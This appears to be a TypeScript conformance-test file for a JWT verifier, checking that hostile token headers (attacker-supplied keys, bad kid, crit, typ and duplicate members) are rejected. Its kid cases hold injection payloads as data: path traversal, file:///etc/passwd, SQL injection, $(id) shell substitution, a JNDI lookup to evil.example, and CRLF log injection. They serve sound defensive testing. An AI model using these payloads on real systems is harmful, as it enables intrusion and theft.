import { createHash } from 'node:crypto';
import { byJson, type ConformanceCase, cases, prefixed } from './conformance-case.ts';
import type { ConformanceContext } from './context.ts';
import { compact } from './signer.ts';

/** Token headers: keys in the token, key ids, critical extensions, types, duplicate members. */
export function headerCases(context: ConformanceContext): readonly ConformanceCase[] {
  return [
    ...embeddedKeys(context),
    ...keyIds(context),
    ...extensions(context),
    ...types(context),
    ...duplicates(context),
  ];
}

/** A token must not supply the key that verifies it (RFC 8725 section 3.10). */
function embeddedKeys(context: ConformanceContext): readonly ConformanceCase[] {
  const attacker = context.unpublished.EdDSA;
  const { jwk } = attacker;
  const thumbprint = createHash('sha256').update('certificate').digest('base64url');
  const jku = 'https://evil.example/keys.json';
  const signedByAttacker = (header: object) => context.token({}, header, attacker);
  const sections: Readonly<Record<string, Readonly<Record<string, object>>>> = {
    'RFC 7515 §4.1.2': {
      "jku of the attacker's JWKS": { jku },
      'jku below the issuer URL': { jku: `${context.issuer}/../keys.json` },
    },
    'RFC 7515 §4.1.3': {
      "jwk with the attacker's key": { jwk },
      "jwk with the attacker's key and a published kid": { jwk: { ...jwk, kid: 'EdDSA' } },
      "jwk with the attacker's key, no kid": { jwk, kid: undefined },
    },
    'RFC 7515 §4.1.5': { "x5u of the attacker's certificate": { x5u: jku } },
    'RFC 7515 §4.1.6': { "x5c with the attacker's certificate": { x5c: ['MIIB'] } },
    'RFC 7515 §4.1.7': { x5t: { x5t: thumbprint } },
    'RFC 7515 §4.1.8': { 'x5t#S256': { 'x5t#S256': thumbprint } },
    'RFC 7517 §5': { 'keys, as in a JWKS': { keys: [jwk] } },
    'RFC 7519 §5.3': { 'iss in the header': { iss: context.issuer } },
  };
  return [
    ...Object.entries(sections).flatMap(([rfc, headers]) =>
      cases('bad_signature', rfc, headers, signedByAttacker),
    ),
    ...cases<object>(
      'unknown_key',
      'RFC 7515 §4.1.3',
      {
        'jwk with an unpublished kid': { jwk: { ...jwk, kid: 'attacker' }, kid: 'attacker' },
        'jku with an unpublished kid': { jku, kid: 'attacker' },
      },
      signedByAttacker,
    ),
  ];
}

/** A `kid` is only compared, never used in a lookup (RFC 8725 section 3.10). */
function keyIds({ token }: ConformanceContext): readonly ConformanceCase[] {
  const rfc = 'RFC 7515 §4.1.4';
  const toToken = (kid: unknown) => token({}, { kid });
  return [
    ...cases(
      'unknown_key',
      rfc,
      prefixed('kid', {
        'of no key': 'unknown',
        'in lower case': 'eddsa',
        'with a trailing space': 'EdDSA ',
        'with a trailing NUL': 'EdDSA\0',
        'that is empty': '',
        'with a path traversal': '../../../../../../dev/null',
        'with a file URL': 'file:///etc/passwd',
        'with an SQL condition': "' OR '1'='1",
        'with an SQL union': "x' UNION SELECT 'secret'; --",
        'with a shell command': '$(id)',
        'with a JNDI lookup': `\${jndi:ldap://evil.example/a}`,
        'with a URL': 'https://evil.example/key.json',
        'with line breaks and JSON': 'EdDSA\r\n{"event":"allowed"}',
        'of 4 KiB': 'k'.repeat(4096),
        'with the name __proto__': '__proto__',
        'with the name constructor': 'constructor',
        'with the name toString': 'toString',
        'with a digit': '0',
        'with an algorithm and a kid': 'RS256 RS256',
        'with a Cyrillic letter': '\u0415dDSA',
        'with a lone surrogate': '\ud800',
        'with a combining mark': 'EdDSA\u0301',
        'with a key thumbprint': 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
      }),
      toToken,
    ),
    ...cases<unknown>(
      'malformed_token',
      rfc,
      byJson<unknown>('kid', [null, 0, 1, true, false, ['EdDSA'], [], {}, { kid: 'EdDSA' }]),
      toToken,
    ),
  ];
}

/** No extension is supported, so every `crit` header is rejected. */
function extensions(context: ConformanceContext): readonly ConformanceCase[] {
  const reason = 'unsupported_critical_header';
  const { claims, signers } = context;
  const unencoded = compact(
    { sign: (input) => signers.EdDSA.sign(`${input.split('.')[0]}.${JSON.stringify(claims)}`) },
    { alg: 'EdDSA', kid: 'EdDSA', b64: false, crit: ['b64'] },
    claims,
  );
  return [
    ...cases<object>(
      reason,
      'RFC 7515 §4.1.11',
      byJson<object>('header with', [
        { crit: ['x'], x: 1 },
        { crit: ['x'] },
        { crit: ['exp'], exp: 1 },
        { crit: ['b64'], b64: true },
        { crit: ['b64'], b64: false },
        { crit: ['alg'] },
        { crit: ['kid', 'typ'], typ: 'JWT' },
        { crit: ['http://openid.net/specs/jwt'], 'http://openid.net/specs/jwt': true },
        { crit: ['x', 'x'], x: 1 },
        { crit: [] },
        { crit: [''], '': 1 },
        { crit: [1] },
        { crit: [null] },
        { crit: 'x', x: 1 },
        { crit: '' },
        { crit: { x: true }, x: 1 },
        { crit: null },
        { crit: true },
        { crit: false },
        { crit: 0 },
      ]),
      (header) => context.token({}, header),
    ),
    ...cases(
      reason,
      'RFC 7515 §4.1.11',
      {
        'crit before all other members': '{"crit":["x"],"x":1,"alg":"EdDSA","kid":"EdDSA"}',
        'crit in JSON escapes': '{"alg":"EdDSA","kid":"EdDSA","\\u0063rit":["x"],"x":1}',
      },
      context.withHeader,
    ),
    ...cases(reason, 'RFC 7797 §6', { 'payload signed without base64url': unencoded }),
    // Only `true`, the default, leaves the payload encoded.
    ...cases<unknown>(
      reason,
      'RFC 7797 §6',
      byJson<unknown>('without crit, b64', [false, null, 0, 1, '', 'true', 'false', [], {}]),
      (b64) => context.token({}, { b64 }),
    ),
  ];
}

/** A token for another purpose is not an access token (RFC 8725 section 3.11). */
function types({ token }: ConformanceContext): readonly ConformanceCase[] {
  const toToken = (typ: unknown) => token({}, { typ });
  const texts = [
    ...['JWS', 'JWE', 'JOSE', 'JOSE+JSON', 'JWT ', ' JWT', 'JW', 'JWTS', '', 'at+JWTx', 'at jwt'],
    ...['at+jwt+jwt', 'id+jwt', 'dpop+jwt', 'secevent+jwt', 'logout+jwt', 'application/json'],
    ...['token-introspection+jwt', 'application/', 'application/application/jwt', 'text/jwt'],
    ...['application/jwt; charset=utf-8', 'JWT\n', 'jwt,at+jwt', '\u212aWT'],
  ];
  const others = [null, 1, true, ['JWT'], {}, []];
  return [
    ...cases('unsupported_type', 'RFC 8725 §3.11', byJson('typ', texts), toToken),
    ...cases<unknown>(
      'unsupported_type',
      'RFC 7515 §4.1.9',
      byJson<unknown>('typ', others),
      toToken,
    ),
  ];
}

/** Of duplicate members, the last one counts, as RFC 7515 section 4 permits. */
function duplicates({ withHeader }: ConformanceContext): readonly ConformanceCase[] {
  const withMembers = (members: string) => `{"alg":"EdDSA","kid":"EdDSA",${members}}`;
  const duplicate = (
    expected: ConformanceCase['expected'],
    headers: Readonly<Record<string, string>>,
  ) => cases(expected, 'RFC 7515 §4', prefixed('duplicate', headers), withHeader);
  return [
    ...duplicate('unsupported_algorithm', {
      'alg, none last': withMembers('"alg":"none"'),
      'alg, HS256 last and escaped': withMembers('"\\u0061lg":"HS256"'),
    }),
    ...duplicate('malformed_token', { 'kid, a number last': withMembers('"kid":1') }),
    ...duplicate('unknown_key', { 'kid, an unknown one last': withMembers('"kid":"unknown"') }),
    ...duplicate('unsupported_type', {
      'typ, JWE last': withMembers('"typ":"JWT","typ":"JWE"'),
    }),
    ...duplicate('unsupported_critical_header', {
      crit: withMembers('"crit":["x"],"crit":[]'),
      'b64, false last': withMembers('"b64":true,"b64":false'),
    }),
    ...duplicate('allow', {
      'alg, both the same': withMembers('"alg":"EdDSA"'),
      'alg, none first': '{"alg":"none","kid":"EdDSA","alg":"EdDSA"}',
      'alg, the second escaped': '{"alg":"HS256","kid":"EdDSA","\\u0061lg":"EdDSA"}',
      'alg, the first escaped': '{"al\\u0067":"EdDSA","kid":"EdDSA","alg":"EdDSA"}',
      'alg, both escaped': '{"\\u0061lg":"EdDSA","kid":"EdDSA","a\\u006Cg":"EdDSA"}',
      'alg, with whitespace': '{"alg" : "EdDSA" ,\n"kid":"EdDSA",\t"alg"\r\n:"EdDSA"}',
      kid: '{"alg":"EdDSA","kid":"unknown","kid":"EdDSA"}',
      typ: withMembers('"typ":"JWE","typ":"JWT"'),
      'unknown member': withMembers('"x":1,"x":1'),
      'unknown member, around a nested object': withMembers('"x":{"y":[{"z":"}"}]},"x":1'),
      'empty name': withMembers('"":1,"":2'),
      'name of a quote': withMembers('"\\"":1,"\\u0022":2'),
      'name of a backslash': withMembers('"\\\\":1,"\\u005c":2'),
      'name of a slash': withMembers('"/":1,"\\/":2'),
      'name __proto__': withMembers('"__proto__":1,"__proto__":2'),
      'non-ASCII name': withMembers('"\u00e9":1,"\\u00e9":2'),
      'name outside the BMP': withMembers('"\u{1f511}":1,"\\ud83d\\udd11":2'),
    }),
  ];
}
